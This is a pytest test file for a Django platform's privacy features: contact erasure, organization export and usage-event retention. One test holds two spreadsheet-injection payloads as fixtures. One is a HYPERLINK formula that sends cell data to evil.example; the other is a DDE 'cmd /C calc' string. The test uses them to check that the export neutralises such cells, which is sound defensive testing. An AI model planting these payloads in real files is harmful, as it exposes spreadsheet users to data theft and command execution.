"""Privacy (LGPD / GDPR): erasure of a contact, export of an organization, retention of
raw usage events (docs/privacy.md)."""

import csv
import io
import json
import zipfile
from datetime import date, timedelta

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts import privacy, services
from accounts.customers import accounts_upsert, contacts_upsert
from accounts.models import (
    Account,
    ApiKey,
    AuditEvent,
    Contact,
    ContactErasure,
    ImportUpload,
    Note,
    Role,
)
from accounts.signals import contact_erasing
from csplatform.clock import organization_today
from csplatform.tenancy import tenant_context, tenant_models
from journeys.ingest import events_ingest
from journeys.models import (
    DailyContactUsage,
    DailyFeatureUsage,
    DailyUsage,
    PendingUsageRollup,
    Touchpoint,
    UsageEvent,
)
from journeys.rollups import usage_roll_up
from journeys.usage_purge import usage_events_purge
from metrics.health.store import health_recompute
from metrics.models import AccountHealth, SatisfactionMetrics
from metrics.satisfaction import satisfaction_recompute
from surveys.models import AnswerAttempt, Response, ResponseEdit, SurveyInvitation
from tests.factories import (
    AccountFactory,
    AnswerAttemptFactory,
    ApiKeyFactory,
    ContactFactory,
    ImportUploadFactory,
    MembershipFactory,
    NoteFactory,
    OrganizationFactory,
    ResponseEditFactory,
    ResponseFactory,
    SubscriptionFactory,
    SurveyInvitationFactory,
    TodoFactory,
    TouchpointFactory,
    UsageEventFactory,
)

pytestmark = pytest.mark.django_db

EMAIL = "maria.souza@cliente.example"
NAME = "Maria Souza"


def _mentions(organization, *needles):
    """(table, column) of every text or JSON column of every tenant-owned table where a
    row of `organization` contains one of `needles` (case-insensitive): one query per
    table, every column at once."""
    tables = [model._meta.db_table for model in tenant_models()]
    found = []
    with tenant_context(organization), connection.cursor() as cursor:
        cursor.execute(
            "SELECT table_name, array_agg(column_name::text ORDER BY ordinal_position) "
            "FROM information_schema.columns "
            "WHERE table_schema = current_schema() AND table_name = ANY(%s) "
            "AND data_type IN ('text', 'character varying', 'json', 'jsonb') "
            "GROUP BY table_name",
            [tables],
        )
        for table, columns in cursor.fetchall():
            flags = ", ".join(f'bool_or("{c}"::text ILIKE ANY(%(needles)s))' for c in columns)
            cursor.execute(
                f'SELECT {flags} FROM "{table}" WHERE organization_id = %(org)s',  # noqa: S608
                {"needles": [f"%{n}%" for n in needles], "org": organization.pk},
            )
            found += [(table, c) for c, hit in zip(columns, cursor.fetchone(), strict=True) if hit]
    return found


@pytest.fixture
def org():
    return OrganizationFactory(time_zone="UTC", currency="BRL")


def _a_person_everywhere(org):
    """Maria at two accounts, named in every kind of record; returns her contacts."""
    with tenant_context(org):
        acme, globex = AccountFactory(name="Acme"), AccountFactory(name="Globex")
        acme.custom_attributes = {"champion": EMAIL, "tier": "gold"}
        acme.save()
        maria = ContactFactory(account=acme, email=EMAIL, name=NAME)
        also_maria = ContactFactory(account=globex, email=EMAIL, name=NAME, opted_out_at=None)
        invitation = SurveyInvitationFactory(contact=maria)
        response = ResponseFactory(
            invitation=invitation, score=3, comment=f"Sou a {NAME}, atendimento ruim."
        )
        ResponseEditFactory(response=response, score=5, comment=f"{EMAIL} wrote this first")
        AnswerAttemptFactory(invitation=invitation, score=4)
        ResponseFactory(
            invitation=SurveyInvitationFactory(contact=also_maria), score=10, comment="Ótimo!"
        )
        TouchpointFactory(account=acme, contact=maria, notes="QBR: she wants SSO")
        NoteFactory(account=acme, body=f"Spoke with maria  souza ({EMAIL.upper()}) today.")
        TodoFactory(account=acme, reason=f"Detractor: {NAME} gave 3")
        UsageEventFactory(account=acme, contact=maria, properties={"user": EMAIL, "plan": "pro"})
        DailyContactUsage.objects.create(
            account=acme, contact=maria, day=organization_today(), events=3
        )
        ImportUploadFactory(
            kind="contacts",
            content=f"account_external_id,email\r\n{acme.external_id},{EMAIL}\r\n".encode(),
            result={"errors": [{"line": 2, "message": f"{EMAIL} is fine"}]},
        )
        # People who are not Maria, and must stay as they are.
        ContactFactory(account=acme, email="ana@cliente.example", name="Ana Maria Souza Lima")
        ContactFactory(account=acme, email="joana." + EMAIL, name="Joana")
        NoteFactory(account=acme, body="Maria from finance called (another Maria).")
    return maria, also_maria


def test_it_erases_a_contact_and_everything_that_names_them(org, team):
    maria, also_maria = _a_person_everywhere(org)
    with tenant_context(org):
        result = privacy.contact_erase(maria, actor=team.admin)

        assert not Contact.objects.filter(email=EMAIL).exists()
        assert not SurveyInvitation.objects.filter(contact__in=[maria.pk, also_maria.pk]).exists()
        assert AnswerAttempt.objects.count() == 0
        assert DailyContactUsage.objects.count() == 0
        assert ImportUpload.objects.get().content in (b"", memoryview(b""))
        assert not ResponseEdit.objects.exclude(comment="").exists()
        assert set(Contact.objects.values_list("email", flat=True)) == {
            "ana@cliente.example",
            "joana." + EMAIL,
        }
        assert Note.objects.filter(body="Maria from finance called (another Maria).").exists()
        assert result.removed["contacts"] == 2
        assert ContactErasure.objects.count() == 2

    # Only in the two other people's own rows (joana.maria.souza@…, Ana Maria Souza Lima).
    # (and their folded copies that search reads, generated from them: docs/search.md)
    assert _mentions(org, EMAIL, NAME, "maria  souza") == [
        ("accounts_contact", "email"),
        ("accounts_contact", "name"),
        ("accounts_contact", "search_email"),
        ("accounts_contact", "search_name"),
    ]
    with tenant_context(org):
        Contact.objects.all().delete()
    assert _mentions(org, EMAIL, NAME, "maria  souza") == []


def test_it_asks_each_app_to_erase_its_own_rows_and_counts_them(org, team):
    maria, _also = _a_person_everywhere(org)
    with tenant_context(org):
        preview = privacy.contact_erasure_preview(maria)
        result = privacy.contact_erase(maria, actor=team.admin)
        recorded = ContactErasure.objects.get(former_contact_id=maria.pk).removed
    # Counted by surveys, through accounts.signals.contact_erasure_previewing.
    assert (len(preview["contacts"]), preview["invitations"], preview["responses"]) == (2, 2, 2)
    assert result.removed == {
        "contacts": 2,
        "responses_anonymized": 2,  # surveys, through accounts.signals.contact_erasing
        "answer_attempts": 1,
        "survey_invitations": 2,
        "touchpoints_anonymized": 1,  # journeys, through the same hook
        "texts_redacted": 5,  # custom attributes, the note, task, event, upload result
        "uploads_emptied": 1,
    }
    assert recorded == result.removed


def test_it_merges_what_a_new_app_erases_through_the_hook(org, team):
    asked = []

    def erase_widgets(sender, *, contact_ids, email, names, **kwargs):
        asked.append((sorted(contact_ids), email, names))
        return {"widgets_deleted": 3}

    maria, also_maria = _a_person_everywhere(org)
    contact_erasing.connect(erase_widgets, dispatch_uid="tests.erase_widgets")
    try:
        with tenant_context(org):
            result = privacy.contact_erase(maria, actor=team.admin)
    finally:
        contact_erasing.disconnect(dispatch_uid="tests.erase_widgets")
    assert asked == [(sorted([maria.pk, also_maria.pk]), EMAIL, {NAME})]
    assert (result.removed["widgets_deleted"], result.removed["survey_invitations"]) == (3, 2)


def test_it_erases_nothing_when_an_app_does_not_say_what_it_erased(org, team):
    def forgets_to_count(sender, **kwargs):
        return None

    maria, _also = _a_person_everywhere(org)
    contact_erasing.connect(forgets_to_count, dispatch_uid="tests.forgets_to_count")
    try:
        with tenant_context(org), pytest.raises(TypeError, match="must return"):
            privacy.contact_erase(maria, actor=team.admin)
    finally:
        contact_erasing.disconnect(dispatch_uid="tests.forgets_to_count")
    with tenant_context(org):  # one transaction: all of it rolled back
        assert Contact.objects.filter(email=EMAIL).count() == 2
        assert Response.objects.exclude(comment="").count() == 2
        assert not ContactErasure.objects.exists()


def _satisfaction():
    return sorted(
        SatisfactionMetrics.objects.values_list(
            "month", "kind", "dimension", "key", "n", "value", "margin"
        )
    )


def test_it_keeps_scores_as_anonymous_answers_so_satisfaction_is_unchanged(org, team):
    maria, _also = _a_person_everywhere(org)
    with tenant_context(org):
        ResponseFactory(score=9)  # someone else's
        satisfaction_recompute()
        before = _satisfaction()
        scores_before = sorted(Response.objects.values_list("account", "kind", "score"))

        privacy.contact_erase(maria, actor=team.admin)

        kept = Response.objects.filter(contact__isnull=True, invitation__isnull=True)
        assert sorted(kept.values_list("score", flat=True)) == [3, 10]
        assert set(kept.values_list("comment", flat=True)) == {""}
        assert sorted(Response.objects.values_list("account", "kind", "score")) == scores_before
        satisfaction_recompute()
        assert before
        assert _satisfaction() == before
    with tenant_context(org):  # touchpoints stay for health, without the person
        touchpoint = Touchpoint.objects.get()
        assert (touchpoint.contact_id, touchpoint.notes) == (None, "")
        assert UsageEvent.objects.get().contact_id is None


def test_it_keeps_honouring_an_opt_out_when_the_contact_is_loaded_again(org, team):
    with tenant_context(org):
        accounts_upsert([{"external_id": "a1", "name": "Acme"}])
        contacts_upsert([{"account_external_id": "a1", "email": "out@cliente.example"}])
        contacts_upsert([{"account_external_id": "a1", "email": "in@cliente.example"}])
        out = Contact.objects.get(email="out@cliente.example")
        out.opted_out_at = timezone.now() - timedelta(days=3)
        out.save()
        privacy.contact_erase(out, actor=None)
        privacy.contact_erase(Contact.objects.get(email="in@cliente.example"), actor=None)

        assert sorted(ContactErasure.objects.values_list("opt_out_hash", flat=True)) == [
            "",
            privacy.opt_out_hash(org.pk, "out@cliente.example"),
        ]
        contacts_upsert(
            [
                {"account_external_id": "a1", "email": "OUT@cliente.example"},
                {"account_external_id": "a1", "email": "in@cliente.example"},
            ]
        )
        again = {c.email: c.opted_out_at for c in Contact.objects.all()}
    assert again["in@cliente.example"] is None
    assert again["out@cliente.example"] == out.opted_out_at


def test_it_leaves_other_organizations_untouched(org, team):
    maria, _also = _a_person_everywhere(org)
    other = OrganizationFactory()
    with tenant_context(other):
        theirs = ContactFactory(email=EMAIL, name=NAME)
        NoteFactory(account=theirs.account, body=f"{NAME} renewed")
    with tenant_context(org):
        privacy.contact_erase(maria, actor=None)
    with tenant_context(other):
        assert Contact.objects.get().email == EMAIL
        assert Note.objects.get().body == f"{NAME} renewed"
    assert _mentions(other, EMAIL) == [
        ("accounts_contact", "email"),
        ("accounts_contact", "search_email"),  # its folded copy, for search
    ]


def test_it_erases_from_the_account_page_after_a_confirmation(org, signed_in):
    admin = MembershipFactory(organization=org, role=Role.ADMIN).user
    maria, _also = _a_person_everywhere(org)
    client = signed_in(admin)
    account_page = reverse("dashboards:account", args=[org.slug, maria.account_id])
    assert reverse("accounts:contact_erase", args=[org.slug, maria.pk]) in (
        client.get(account_page).content.decode()
    )
    url = reverse("accounts:contact_erase", args=[org.slug, maria.pk])
    page = client.get(url)
    assert page.status_code == 200
    assert "Globex" in page.content.decode()  # she is a contact there too

    assert client.post(url, {"email": "someone@else.example"}).status_code == 400
    with tenant_context(org):
        assert Contact.objects.filter(pk=maria.pk).exists()

    response = client.post(url, {"email": EMAIL.upper()})
    assert response.status_code == 302
    assert response["Location"] == account_page
    with tenant_context(org):
        erasure = ContactErasure.objects.get(former_contact_id=maria.pk)
    assert (erasure.erased_by, erasure.channel) == (admin, "web")
    assert client.get(url).status_code == 404


def test_it_hides_the_erase_button_from_managers(org, signed_in):
    manager = MembershipFactory(organization=org, role=Role.MANAGER).user
    with tenant_context(org):
        contact = ContactFactory()
    page = signed_in(manager).get(
        reverse("dashboards:account", args=[org.slug, contact.account_id])
    )
    assert "/erase/" not in page.content.decode()


def _api(org):
    owner = MembershipFactory(organization=org, role=Role.OWNER).user
    with tenant_context(org):
        _api_key, key = services.api_key_create(name="tests", created_by=owner)
    return Client(), {"authorization": f"Bearer {key}"}


def test_it_erases_through_the_api_and_a_retry_changes_nothing(org):
    maria, _also = _a_person_everywhere(org)
    client, headers = _api(org)
    url = f"/api/v1/contacts/{maria.pk}/erase/"

    first = client.post(url, headers=headers)
    assert first.status_code == 200
    assert first.json()["already_erased"] is False
    assert first.json()["removed"]["contacts"] == 2

    again = client.post(url, headers=headers)
    assert again.status_code == 200
    assert again.json() | {"already_erased": False} == first.json()

    missing = client.post("/api/v1/contacts/999999/erase/", headers=headers)
    assert missing.status_code == 404
    assert "id" in missing.json()


def test_it_answers_404_for_another_organizations_contact_in_the_api(org):
    other = OrganizationFactory()
    with tenant_context(other):
        theirs = ContactFactory()
    client, headers = _api(org)
    assert client.post(f"/api/v1/contacts/{theirs.pk}/erase/", headers=headers).status_code == 404
    with tenant_context(other):
        assert Contact.objects.filter(pk=theirs.pk).exists()


def test_it_erases_with_the_management_command(org):
    _a_person_everywhere(org)
    out = io.StringIO()
    who = "ana@ops: ticket 4312"
    call_command("erase_contact", org=org.slug, email=EMAIL.upper(), requested_by=who, stdout=out)
    assert "Erased" in out.getvalue()
    assert EMAIL not in out.getvalue()
    with tenant_context(org):
        assert not Contact.objects.filter(email=EMAIL).exists()
        Contact.objects.all().delete()  # the other people, whose names contain hers
    assert _mentions(org, EMAIL, NAME) == []
    with tenant_context(org):
        assert set(ContactErasure.objects.values_list("channel", flat=True)) == {"command"}
        erased = AuditEvent.objects.get(action=AuditEvent.Action.CONTACT_ERASED)
    assert erased.details["operator"] == who  # who asked, as the operator said

    out = io.StringIO()
    call_command("erase_contact", org=org.slug, email=EMAIL, requested_by=who, stdout=out)
    assert "nothing to do" in out.getvalue()


# --- export ----------------------------------------------------------------------------


def _two_organizations_with_data():
    mine, theirs = OrganizationFactory(name="Mine"), OrganizationFactory(name="Theirs")
    for organization, prefix in ((mine, "mine"), (theirs, "theirs")):
        owner = MembershipFactory(organization=organization, role=Role.OWNER).user
        with tenant_context(organization):
            account = AccountFactory(name=f"{prefix} account")
            ContactFactory(account=account, email=f"{prefix}@cliente.example", name="José Ção")
            SubscriptionFactory(account=account)
            UsageEventFactory.create_batch(3, account=account)
            ResponseFactory(invitation__contact__account=account, comment=f"{prefix} comment")
            NoteFactory(account=account, body=f"{prefix} note")
            ApiKeyFactory(name=f"{prefix} key")
            services.api_key_create(name=f"{prefix} sync", created_by=owner)
    return mine, theirs


def _read_export(data):
    archive = zipfile.ZipFile(io.BytesIO(data))
    tables = {}
    for name in archive.namelist():
        if name.endswith(".csv"):
            text = archive.read(name).decode("utf-8")
            tables[name] = list(csv.DictReader(io.StringIO(text)))
    return json.loads(archive.read("manifest.json")), tables


def test_it_exports_only_the_organizations_own_rows_with_a_manifest(tmp_path):
    mine, _theirs = _two_organizations_with_data()
    output = tmp_path / "mine.zip"
    out = io.StringIO()
    call_command("export_organization", org=mine.slug, output=str(output), stdout=out)
    assert "journeys/usageevent.csv: 3 rows" in out.getvalue()

    manifest, tables = _read_export(output.read_bytes())
    assert manifest["schema_version"] == privacy.EXPORT_SCHEMA_VERSION
    assert manifest["organization"]["slug"] == mine.slug
    csv_files = {name: count for name, count in manifest["files"].items() if name.endswith(".csv")}
    assert {name: len(rows) for name, rows in tables.items()} == csv_files
    assert len(tables) == len(tenant_models()) + 1  # and the members
    assert tables["accounts/contact.csv"][0]["name"] == "José Ção"  # UTF-8
    assert [r["body"] for r in tables["accounts/note.csv"]] == ["mine note"]
    assert [r["comment"] for r in tables["surveys/response.csv"]] == ["mine comment"]
    assert len(tables["journeys/usageevent.csv"]) == 3
    for rows in tables.values():
        for row in rows:
            assert "theirs" not in json.dumps(row)
            assert row.get("organization_id", str(mine.pk)) == str(mine.pk)


def test_it_exports_the_to_dos_and_survey_invitations_under_their_model_names(tmp_path):
    mine, _theirs = _two_organizations_with_data()
    output = tmp_path / "mine.zip"
    call_command("export_organization", org=mine.slug, output=str(output), stdout=io.StringIO())
    manifest, tables = _read_export(output.read_bytes())
    assert {"journeys/todo.csv", "surveys/surveyinvitation.csv"} <= set(tables)
    assert not {"journeys/task.csv", "surveys/invitation.csv"} & set(tables)
    assert manifest["schema_version"] >= 2  # the files' names changed from version 1


def test_it_never_exports_api_key_hashes_or_passwords(tmp_path):
    mine, _theirs = _two_organizations_with_data()
    output = tmp_path / "mine.zip"
    call_command("export_organization", org=mine.slug, output=str(output), stdout=io.StringIO())
    data = output.read_bytes()
    _manifest, tables = _read_export(data)
    assert set(tables["accounts/apikey.csv"][0]) >= {"name", "prefix"}
    assert "hashed_key" not in tables["accounts/apikey.csv"][0]
    with tenant_context(mine):
        hashes = list(ApiKey.objects.values_list("hashed_key", flat=True))
    archive = zipfile.ZipFile(io.BytesIO(data))
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert not any(h.encode() in everything for h in hashes)
    members = tables["accounts/members.csv"]
    assert set(members[0]) == {"email", "full_name", "role", "created_at"}
    assert b"md5$" not in everything
    assert b"pbkdf2" not in everything


def test_it_lets_owners_download_the_export(team, signed_in):
    with tenant_context(team.organization):
        ContactFactory(email="someone@cliente.example")
    url = reverse("accounts:organization_export", args=[team.organization.slug])
    response = signed_in(team.owner).post(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert "attachment" in response["Content-Disposition"]
    manifest, _tables = _read_export(b"".join(response.streaming_content))
    assert manifest["files"]["accounts/contact.csv"] == 1
    assert signed_in(team.admin).post(url).status_code == 403
    page = signed_in(team.admin).get(reverse("accounts:privacy", args=[team.organization.slug]))
    assert url not in page.content.decode()


# --- retention of raw usage events -----------------------------------------------------


def _events(days_ago, count, *, account="a1", prefix="e"):
    when = timezone.now() - timedelta(days=days_ago)
    return [
        {
            "account_external_id": account,
            "contact_email": "user@cliente.example",
            "name": "report.generated" if i % 2 else "dashboard.viewed",
            "occurred_at": when,
            "external_id": f"{prefix}-{days_ago}-{i}",
        }
        for i in range(count)
    ]


def _rollups():
    return (
        sorted(DailyUsage.objects.values_list("account", "day", "events", "quantity")),
        sorted(DailyFeatureUsage.objects.values_list("account", "feature", "day", "events")),
        sorted(DailyContactUsage.objects.values_list("account", "contact", "day", "events")),
    )


def _health():
    return sorted(
        AccountHealth.objects.values_list(
            "account", "day", "score", "band", "active_days", "features_used", "active_contacts"
        )
    )


def _organization_with_usage(retention_days):
    organization = OrganizationFactory(time_zone="UTC", usage_event_retention_days=retention_days)
    with tenant_context(organization):
        accounts_upsert([{"external_id": "a1", "name": "Acme"}])
        SubscriptionFactory(account=Account.objects.get(), started_on=date(2024, 1, 1))
        contacts_upsert([{"account_external_id": "a1", "email": "user@cliente.example"}])
        events_ingest(_events(100, 5) + _events(10, 4) + _events(1, 2))
        usage_roll_up()
        events_ingest(_events(90, 3, prefix="late"))  # old, and not rolled up yet
    return organization


def test_it_purges_only_old_events_already_counted_in_the_rollups(db):
    org = _organization_with_usage(60)
    other = _organization_with_usage(60)
    with tenant_context(org):
        health_recompute()
        rollups, health = _rollups(), _health()

    assert usage_events_purge(org.pk, batch_size=2) == 5

    with tenant_context(org):
        assert _rollups() == rollups
        health_recompute()
        assert _health() == health
        old = UsageEvent.objects.filter(occurred_at__lt=timezone.now() - timedelta(days=60))
        assert old.count() == 3  # pending roll-up: kept
        assert PendingUsageRollup.objects.count() == 1
        assert UsageEvent.objects.count() == 3 + 4 + 2
        usage_roll_up()
    assert usage_events_purge(org.pk) == 3  # counted now: purged the next night
    with tenant_context(other):
        assert UsageEvent.objects.count() == 5 + 4 + 2 + 3


def test_it_keeps_events_forever_without_a_retention(db):
    org = _organization_with_usage(None)
    assert usage_events_purge(org.pk) == 0
    with tenant_context(org):
        assert UsageEvent.objects.count() == 14


def test_it_purges_every_organization_from_the_nightly_sweep(db):
    from journeys.tasks import purge_usage_events

    org = _organization_with_usage(30)
    assert purge_usage_events.apply(args=[org.pk]).get() == 5
    from csplatform.schedules import BEAT_SCHEDULE

    assert BEAT_SCHEDULE["purge-usage-events"]["task"] == "journeys.tasks.purge_usage_events_sweep"


def test_it_lets_admins_set_the_retention_of_at_least_30_days(team, signed_in):
    url = reverse("accounts:privacy", args=[team.organization.slug])
    client = signed_in(team.admin)
    assert client.get(url).status_code == 200
    too_short = client.post(url, {"usage_event_retention_days": "7"})
    assert too_short.status_code == 400
    assert "30" in too_short.content.decode()
    assert client.post(url, {"usage_event_retention_days": "365"}).status_code == 302
    team.organization.refresh_from_db()
    assert team.organization.usage_event_retention_days == 365
    assert client.post(url, {"usage_event_retention_days": ""}).status_code == 302
    team.organization.refresh_from_db()
    assert team.organization.usage_event_retention_days is None


# --- review of issue 17: erasure never rewrites identities or keys ----------------------


def _audit_log(organization):
    from accounts.models import AuditEvent

    with tenant_context(organization):
        entries = AuditEvent.objects.order_by("pk")
        return list(entries.values_list("action", "actor_email", "target", "details"))


def test_it_never_rewrites_the_audit_log_or_a_members_identity_and_records_who_asked(org):
    from accounts.models import AuditEvent, MemberInvitation

    owner = MembershipFactory(organization=org, role=Role.OWNER)
    member = MembershipFactory(organization=org, role=Role.ADMIN, user__email=EMAIL)
    with tenant_context(org):
        MemberInvitation.objects.create(
            email=EMAIL, role=Role.ADMIN, invited_by=owner.user, accepted_at=timezone.now()
        )
        services.api_key_create(name="sync", created_by=member.user)  # actor: her email
    services.membership_change_role(membership=member, role=Role.MANAGER, actor=owner)  # target
    maria, _also = _a_person_everywhere(org)
    before = _audit_log(org)
    assert [entry[1:3] for entry in before] == [(EMAIL, "sync"), (owner.user.email, EMAIL)]

    client, headers = _api(org)
    assert client.post(f"/api/v1/contacts/{maria.pk}/erase/", headers=headers).status_code == 200

    after = _audit_log(org)
    assert after[: len(before)] == before  # append-only: her entries as they were
    with tenant_context(org):
        assert MemberInvitation.objects.get(accepted_at__isnull=False).email == EMAIL
        erased = AuditEvent.objects.get(action=AuditEvent.Action.CONTACT_ERASED)
        key = ApiKey.objects.get(name="tests")
    # Who asked: the API key (an API call has no user); and that she is a member.
    assert erased.details["requested_by"] == {"name": "tests", "prefix": key.prefix}
    assert erased.details["member_identity_kept"] is True
    assert (erased.target, EMAIL in json.dumps(erased.details)) == (f"#{maria.pk}", False)


def test_it_says_on_the_page_that_a_members_identity_was_kept(org, signed_in):
    admin = MembershipFactory(organization=org, role=Role.ADMIN).user
    MembershipFactory(organization=org, role=Role.VIEWER, user__email=EMAIL)
    maria, _also = _a_person_everywhere(org)
    url = reverse("accounts:contact_erase", args=[org.slug, maria.pk])
    page = signed_in(admin).post(url, {"email": EMAIL}, follow=True).content.decode()
    assert "also a member of this organization" in page
    with tenant_context(org):
        assert not Contact.objects.filter(email=EMAIL).exists()  # erased all the same


def test_it_erases_people_whose_email_is_a_key_and_keeps_the_key(org, signed_in):
    """Accounts whose external id is the person's email: erasing them one after another
    (API, page, command) never rewrites the key, so keys never collide."""
    people = ["p1@erase.test", "p2@erase.test", "p3@erase.test"]
    with tenant_context(org):
        accounts_upsert([{"external_id": email, "name": email.upper()} for email in people])
        contacts_upsert([{"account_external_id": email, "email": email} for email in people])
        for account in Account.objects.all():
            SubscriptionFactory(account=account, external_id=f"sub-{account.external_id}")
        first, second = (Contact.objects.get(email=email) for email in people[:2])

    client, headers = _api(org)
    response = client.post(f"/api/v1/contacts/{first.pk}/erase/", headers=headers)
    assert response.status_code == 200
    admin = MembershipFactory(organization=org, role=Role.ADMIN).user
    page = signed_in(admin).post(
        reverse("accounts:contact_erase", args=[org.slug, second.pk]), {"email": people[1]}
    )
    assert page.status_code == 302
    call_command(
        "erase_contact",
        *("--org", org.slug, "--email", people[2], "--requested-by", "ops: ticket 1"),
        stdout=io.StringIO(),
    )

    with tenant_context(org):
        assert not Contact.objects.exists()
        assert ContactErasure.objects.count() == 3
        assert sorted(Account.objects.values_list("external_id", flat=True)) == people
        assert sorted(Account.objects.values_list("subscriptions__external_id", flat=True)) == [
            f"sub-{email}" for email in people
        ]
        # The display name is not a key: it is redacted as any text naming the person.
        assert set(Account.objects.values_list("name", flat=True)) == {privacy.REDACTED}


def test_it_leaves_every_unique_column_out_of_the_sweep():
    with connection.cursor() as cursor:
        cursor.execute("SELECT 1")
    columns = privacy._text_columns()
    assert "accounts_auditevent" not in columns  # append-only
    for table, column in [
        ("accounts_account", "external_id"),
        ("accounts_subscription", "external_id"),
        ("accounts_memberinvitation", "email"),  # a member's identity, and a unique key
    ]:
        assert column not in [name for name, _type, _length in columns.get(table, [])]
    assert "name" in [name for name, _type, _length in columns["accounts_account"]]


# --- review of issue 17: the export is safe to open in a spreadsheet ---------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
COMMAND = "+1+cmd|' /C calc'!A0"


def test_it_exports_cells_a_spreadsheet_cannot_run_and_the_raw_rows_beside_them(tmp_path):
    mine, _theirs = _two_organizations_with_data()
    with tenant_context(mine):
        account = AccountFactory(name=COMMAND, segment="-2+3", custom_attributes={"a": "@x"})
        ResponseFactory(invitation__contact__account=account, comment=FORMULA, score=3)
        SubscriptionFactory(account=account, amount_cents=0)
    output = tmp_path / "mine.zip"
    call_command("export_organization", "--org", mine.slug, "--output", str(output))
    manifest, tables = _read_export(output.read_bytes())
    archive = zipfile.ZipFile(output)

    assert manifest["schema_version"] == 3
    accounts = {row["id"]: row for row in tables["accounts/account.csv"]}
    assert accounts[str(account.pk)]["name"] == "'" + COMMAND
    assert accounts[str(account.pk)]["segment"] == "'-2+3"
    comments = [row["comment"] for row in tables["surveys/response.csv"]]
    assert "'" + FORMULA in comments
    assert not any(
        cell[:1] in ("=", "+", "@", "\t", "\r")
        for rows in tables.values()
        for row in rows
        for cell in row.values()
    )
    # Numbers stay numbers: a negative amount would not be a formula.
    assert all(not row["id"].startswith("'") for row in tables["accounts/account.csv"])

    # For machines: the same rows, raw and typed, as JSON Lines beside each CSV.
    raw = [
        json.loads(line) for line in archive.read("accounts/account.jsonl").decode().splitlines()
    ]
    assert {row["id"]: row["name"] for row in raw}[account.pk] == COMMAND
    assert {row["id"]: row["custom_attributes"] for row in raw}[account.pk] == {"a": "@x"}
    responses = archive.read("surveys/response.jsonl").decode().splitlines()
    assert FORMULA in [json.loads(line)["comment"] for line in responses]
    for name in tables:
        jsonl = name.removesuffix(".csv") + ".jsonl"
        assert len(archive.read(jsonl).decode().splitlines()) == len(tables[name])
        assert manifest["files"][jsonl] == manifest["files"][name]


# --- review of issue 17: one spelling of the organization on the command line -----------


def _commands_naming_an_organization():
    from django.core.management import get_commands, load_command_class

    ours = {
        "accounts",
        "bench",
        "billing",
        "csplatform",
        "dashboards",
        "journeys",
        "metrics",
        "surveys",
    }
    for command, app in sorted(get_commands().items()):
        if app in ours:
            parser = load_command_class(app, command).create_parser("manage.py", command)
            strings = {s for action in parser._actions for s in action.option_strings}
            if strings & {"--org", "--organization", "--org-slug", "--slug"}:
                yield pytest.param(parser, id=command)


@pytest.mark.parametrize("parser", list(_commands_naming_an_organization()))
def test_it_takes_the_organization_as_org_or_organization_in_every_command(parser):
    (action,) = [a for a in parser._actions if "--org" in a.option_strings]
    assert (action.option_strings, action.dest) == (["--org", "--organization"], "org")
    assert "--org SLUG" in parser.format_usage()  # the one spelling the help teaches


def test_it_finds_every_command_that_names_an_organization():
    commands = {p.id for p in _commands_naming_an_organization()}
    assert commands >= {"erase_contact", "export_organization", "import_csv", "metrics"}
    assert commands >= {"recompute_metrics", "send_survey"}


@pytest.mark.parametrize(
    ("email", "encoding"),
    [
        (EMAIL, "utf-16"),  # Excel's "Unicode text": two bytes a character, with a BOM
        ("joão.souza@cliente.example", "utf-8"),
        ("joão.souza@cliente.example", "cp1252"),
        ("JOÃO.Souza@cliente.example", "utf-8-sig"),
    ],
)
def test_it_empties_uploads_naming_the_person_in_any_encoding_the_import_reads(
    org, team, email, encoding
):
    with tenant_context(org):
        acme = AccountFactory(name="Acme")
        person = ContactFactory(account=acme, email=email.lower())
        upload = ImportUploadFactory(
            kind="contacts",
            content=f"account_external_id;email\n{acme.external_id};{email}\n".encode(encoding),
            check_outcome={"preview": [[acme.external_id, email]]},
        )
        other = ImportUploadFactory(content="external_id;name\na9;Ninguém\n".encode(encoding))
        result = privacy.contact_erase(person, actor=team.admin)
        assert result.removed["uploads_emptied"] == 1
        upload.refresh_from_db()
        assert bytes(upload.content) == b""
        assert upload.check_outcome == {}
        assert upload.status == "expired"
        other.refresh_from_db()
        assert bytes(other.content) != b""


# --- review of issue 17: an import being run cannot bring an erased person back ---------


def test_it_empties_an_upload_queued_for_a_worker_that_names_the_person(org):
    from accounts.models import ImportStatus
    from tests.factories import ImportUploadFactory

    with tenant_context(org):
        person = ContactFactory(email=EMAIL)
        upload = ImportUploadFactory(
            kind="contacts",
            content=f"account_external_id;email\n{person.account.external_id};{EMAIL}\n".encode(),
            status=ImportStatus.IMPORTING,
        )
        result = privacy.contact_erase(person, actor=None)
        upload.refresh_from_db()
    assert result.removed["uploads_emptied"] == 1
    assert (upload.status, bytes(upload.content)) == (ImportStatus.EXPIRED, b"")


@pytest.mark.django_db(transaction=True)
def test_it_waits_for_an_import_running_meanwhile_and_erases_what_it_brought():
    import threading

    from django.db import transaction

    from accounts.models import ImportStatus
    from tests.factories import ImportUploadFactory

    org = OrganizationFactory(slug="erase-race")
    with tenant_context(org):
        person = ContactFactory(email=EMAIL)
        upload = ImportUploadFactory(kind="contacts", status=ImportStatus.IMPORTING)
    locked, erasing = threading.Event(), threading.Event()

    def import_running() -> None:  # what import_upload_queued does: lock, write, commit
        try:
            with tenant_context(org), transaction.atomic():
                ImportUpload.objects.select_for_update().get(pk=upload.pk)
                ContactFactory(email=EMAIL.upper())  # at another account
                locked.set()
                erasing.wait(timeout=10)
                connection.cursor().execute("SELECT pg_sleep(0.5)")  # the erasure is waiting
                ImportUpload.objects.filter(pk=upload.pk).update(
                    status=ImportStatus.IMPORTED, content=b""
                )
        finally:
            connection.close()

    worker = threading.Thread(target=import_running)
    worker.start()
    assert locked.wait(timeout=10)
    erasing.set()
    with tenant_context(org):
        privacy.contact_erase(person, actor=None)
    worker.join(timeout=10)
    with tenant_context(org):
        assert not Contact.objects.filter(email__iexact=EMAIL).exists()


# --- review of issue 17 (live check): JSON is redacted string by string ----------------


def test_it_erases_a_person_whose_name_spans_the_punctuation_of_some_json(org):
    # The live check's case: redacting the JSON's text made {"a": 1, "b": 2} into
    # {"a": [erased]": 2}, invalid, and the erasure a 500 that erased no one.
    with tenant_context(org):
        account = AccountFactory(custom_attributes={"a": 1, "b": 2})
        person = ContactFactory(account=account, email="j1@erase.test", name='1, "b')
    client, headers = _api(org)
